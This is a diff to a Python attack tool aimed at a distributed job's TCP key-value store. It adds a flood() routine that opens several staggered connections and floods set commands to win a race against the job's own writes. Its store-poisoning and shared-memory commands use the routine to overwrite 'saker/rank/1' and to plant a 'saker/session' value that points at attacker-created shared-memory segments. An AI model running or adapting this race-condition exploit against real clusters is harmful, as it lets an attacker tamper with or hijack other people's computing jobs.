@@ -103,6 +103,31 @@ def store_set(s, key, value):
     s.sendall(b"S" + struct.pack("<I", len(k)) + k + struct.pack("<I", len(v)) + v)
 
 
+def flood(addr, key, value, seconds=4.0):
+    """Set key to value over and over, from several connections opened a little apart: the
+    store serves its clients in the order they connected, and a set parsed after the job's
+    own, before the store answers the job's gets, wins."""
+    k, v = key.encode(), value.encode()
+    burst = (b"S" + struct.pack("<I", len(k)) + k + struct.pack("<I", len(v)) + v) * 16
+    spin_until = getattr(_spin, "until", 0)
+
+    def one(delay):
+        time.sleep(delay)
+        _spin.until = spin_until
+        try:
+            with connect(addr) as s:
+                end = time.time() + seconds
+                while time.time() < end:
+                    s.sendall(burst)
+        except OSError:
+            pass
+
+    threads = [threading.Thread(target=one, args=(d,), daemon=True) for d in (0, 0.0005, 0.001, 0.002, 0.004)]
+    for t in threads:
+        t.start()
+    return threads
+
+
 class Campaign:
     """Runs fn(addr) in a thread for every listener of uid that appears, until the attack
     phase ends (duration seconds after the first listener, or the deadline)."""
@@ -198,11 +223,8 @@ def cmd_store_poison(args):
     threading.Thread(target=accept_loop, daemon=True).start()
 
     def spam(addr):
-        with connect(addr) as s:
-            end = time.time() + 4
-            while time.time() < end:
-                store_set(s, "saker/rank/1", value)
-                time.sleep(0.001)
+        for t in flood(addr, "saker/rank/1", value):
+            t.join()
 
     say("INFO poisoning saker/rank/1 with %r" % value)
     Campaign(args).run(spam)
@@ -305,25 +327,8 @@ def cmd_shm(args):
     planted = "%016x-1" % int.from_bytes(os.urandom(8), "big")
     precreate(shm_names(planted), made)
 
-    k, v = b"saker/session", planted.encode()
-    burst = (b"S" + struct.pack("<I", len(k)) + k + struct.pack("<I", len(v)) + v) * 16
-
-    def plant(addr, spin_until, delay):
-        # Several connections, some opened after rank 0's: the store serves its clients in
-        # the order they connected, and a set parsed after rank 0's, before the answers, wins.
-        time.sleep(delay)
-        _spin.until = spin_until
-        try:
-            with connect(addr) as s:
-                end = time.time() + 4
-                while time.time() < end:
-                    s.sendall(burst)
-        except OSError:
-            pass
-
     def attempt(addr):
-        for delay in (0, 0.0005, 0.001, 0.002, 0.004):
-            threading.Thread(target=plant, args=(addr, getattr(_spin, "until", 0), delay), daemon=True).start()
+        flood(addr, "saker/session", planted)
         with connect(addr, timeout=5) as s:
             k = b"saker/session"
             s.sendall(b"G" + struct.pack("<I", len(k)) + k)
